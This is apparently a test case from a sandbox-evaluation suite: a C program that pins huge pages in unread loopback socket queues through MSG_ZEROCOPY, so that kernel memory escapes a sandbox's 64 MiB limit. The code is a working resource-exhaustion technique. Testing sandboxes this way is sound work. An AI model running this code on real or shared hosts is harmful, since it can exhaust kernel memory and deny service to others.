// Sends one byte each of huge pages to a connection that nobody reads from, by MSG_ZEROCOPY, and lets go of the
// pages: they wait in the connection's queue, and are in no process.
// class: OS sandboxes: kernel memory that no limit counts
// plain: say
// flags: --memory 64MiB
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#ifndef SO_ZEROCOPY
#define SO_ZEROCOPY 60
#define MSG_ZEROCOPY 0x4000000
#endif

enum { kSockets = 32, kEach = 64, kPage = 2 << 20 };

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  char* map = mmap(NULL, 2 * kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (map == MAP_FAILED) return 1;
  char* page = (char*)(((uintptr_t)map + kPage - 1) / kPage * kPage);
  madvise(page, kPage, MADV_HUGEPAGE);
  const int server = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t size = sizeof at;
  if (bind(server, (struct sockaddr*)&at, sizeof at) != 0 || listen(server, 64) != 0 ||
      getsockname(server, (struct sockaddr*)&at, &size) != 0)
    return 1;
  int kept = 0;
  for (int i = 0; i < kSockets; ++i) {
    const int from = socket(AF_INET, SOCK_STREAM, 0), small = 2048, one = 1;
    setsockopt(server, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    if (connect(from, (struct sockaddr*)&at, sizeof at) != 0) return 1;
    if (accept(server, NULL, NULL) < 0) return 1;
    if (setsockopt(from, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one) != 0) {
      refused("SO_ZEROCOPY");
      break;
    }
    // The other end takes no more before the pages come.
    static char filler[4096];
    fcntl(from, F_SETFL, O_NONBLOCK);
    for (int sent = 0; sent < 16; ++sent)
      if (send(from, filler, sizeof filler, 0) < 0) break;
    nap(10);
    for (int each = 0; each < kEach; ++each) {
      memset(page, 'x', kPage);
      if (kept == 0 && large_pages() < kPage >> 10 && !inside()) needs("transparent-huge-pages");
      if (send(from, page, 1, MSG_ZEROCOPY) != 1) {
        refused("send");
        break;
      }
      ++kept;
      madvise(page, kPage, MADV_DONTNEED);
    }
    nap(10);
  }
  nap(inside() ? 1000 : 0);
  if (kept > 64) effect("%d MiB of huge pages in sockets", 2 * kept);
  return 0;
}
